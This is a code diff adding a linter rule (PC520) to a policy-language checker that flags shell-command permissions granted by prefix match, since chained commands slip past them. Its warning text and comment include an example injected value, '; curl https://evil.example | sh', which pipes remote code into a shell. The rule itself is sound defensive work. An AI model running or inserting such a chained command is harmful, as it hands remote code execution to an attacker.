@@ -30,6 +30,9 @@ interface NameKind {
  * `like` pattern written in another pattern syntax (PC508). They run after both sides of the
  * comparison type-checked, and read the checker's resolutions, never the spelling.
  */
+/** Names of an argument that holds a shell command line (PC520). */
+const SHELL_COMMAND_ARGUMENTS: ReadonlySet<string> = new Set(["cmd", "command", "script", "shell", "commandline", "command_line"]);
+
 export class LiteralComparisonChecks {
   constructor(
     private readonly schema: Schema,
@@ -58,6 +61,7 @@ export class LiteralComparisonChecks {
       if (pattern && addressOf && domainHelp) this.checkAddressPattern(addressOf.subject, pattern.value, pattern.span, negated, truthTightens);
       if (pattern && left.kind === "string") this.checkUrlText(expr.left, "like", pattern, negated, truthTightens);
       if (pattern && left.kind === "string") this.checkPathText(expr.left, "like", pattern, negated, truthTightens);
+      if (pattern && left.kind === "string" && /^[^*]+\*$/.test(pattern.value)) this.checkShellPrefix(expr.left, `${printExpr(expr.left)} like ${JSON.stringify(pattern.value)}`, pattern, negated, truthTightens);
     }
     if (operator === "==" || operator === "!=" || operator === "in") this.checkWholePath(expr, left, right, negated, truthTightens);
     if (operator === "contains" && left.kind === "string") {
@@ -84,6 +88,7 @@ export class LiteralComparisonChecks {
     }
     if (method === "startsWith" && objectType.kind === "string") this.checkUrlText(object, "startsWith", literal, negated, truthTightens);
     if (objectType.kind === "string") this.checkPathText(object, method, literal, negated, truthTightens);
+    if (objectType.kind === "string" && method === "startsWith") this.checkShellPrefix(object, `${printExpr(object)}.startsWith(${JSON.stringify(literal.value)})`, literal, negated, truthTightens);
     const kind = this.nameKindOf(object, objectType);
     if (kind) this.checkNamePiece(kind, literal, method === "startsWith" ? "starts with" : "ends with");
     const call = this.normalizingCallOf(object);
@@ -220,6 +225,26 @@ export class LiteralComparisonChecks {
    * hosts. Where it tightens the rule, matching more is harmless; in an `ask`, `url.host`'s
    * error would send the call to a person, so no rewrite is safe to offer there.
    */
+  /**
+   * PC520: a shell command allowed by how it starts (`args.cmd like "npm *"`,
+   * `args.cmd.startsWith("git ")`): a shell also reads `;`, `&&`, `|` and `$(…)` after it, so
+   * `npm test; curl … | sh` passes (language.md 5.7). Only where the test's holding loosens the
+   * decision, and only for an argument whose name says it is a command.
+   */
+  private checkShellPrefix(subject: A.Expr, written: string, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined): void {
+    if (truthTightens !== false || negated || subject.kind !== "Member" || subject.object.kind !== "NameRef" || subject.object.name !== "args") return;
+    if (!SHELL_COMMAND_ARGUMENTS.has(subject.property.name.toLowerCase())) return;
+    const start = literal.value.replace(/\*$/, "");
+    this.diagnostics.push(
+      diagnostic(
+        "PC520",
+        `\`${written}\` allows every command that starts so, such as ${JSON.stringify(`${start}${start.endsWith(" ") ? "" : " "}x; curl https://evil.example | sh`)}: a shell also runs what follows \`;\`, \`&&\`, \`|\` or \`$(…)\``,
+        literal.span,
+        `allow whole commands, as in \`${printExpr(subject)} in ["npm test", "npm run lint"]\` (language.md section 5.7)`,
+      ),
+    );
+  }
+
   private checkUrlText(subject: A.Expr, test: UrlTextTest, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined): void {
     if (truthTightens !== false) return;
     // `url.host(u).startsWith("https://…")` never holds, and neither does a `lower()`d URL
